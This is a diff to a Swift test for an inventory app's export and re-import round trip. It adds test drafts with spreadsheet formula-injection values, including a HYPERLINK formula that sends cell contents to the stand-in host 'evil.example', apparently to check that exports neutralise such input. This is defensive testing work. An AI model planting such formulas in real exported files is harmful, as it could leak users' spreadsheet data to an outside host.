@@ -133,22 +133,33 @@ import Testing
                 code: "0012",
                 note: "x\ny"
             ),
+            InventoryItemDraft(
+                title: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                quantity: -7,
+                unit: "+1+1",
+                category: "-1",
+                place: "@SUM(1)",
+                state: "'=1",
+                code: "''=1",
+                note: "'\n=1"
+            ),
+            InventoryItemDraft(title: "'quoted'", state: "'", code: "''", note: "x =1"),
             InventoryItemDraft(title: "bare"), InventoryItemDraft(title: "\u{202E}turned", quantity: -3),
             InventoryItemDraft(title: "gone"),
         ]
         for (number, draft) in drafts.enumerated() {
             _ = try await store.create(draft, at: now + Double(number) * 0.25)
         }
-        _ = try await store.delete(2, ifUpdatedAt: nil)
+        _ = try await store.delete(6, ifUpdatedAt: nil)
         let items = try await store.items(matching: InventoryFilter()).items
         let text = try await exported(store, export)
 
         let copy = try SQLiteStore(path: nil)
-        #expect(try await take(text, into: copy) == InventoryImportSummary(created: 3))
+        #expect(try await take(text, into: copy) == InventoryImportSummary(created: 5))
         #expect(try await copy.items(matching: InventoryFilter()).items == items)
         #expect(try await exported(copy, export) == text)
         // Over itself it changes nothing.
-        #expect(try await take(text, into: store) == InventoryImportSummary(updated: 3))
+        #expect(try await take(text, into: store) == InventoryImportSummary(updated: 5))
         #expect(try await store.items(matching: InventoryFilter()).items == items)
     }
 }
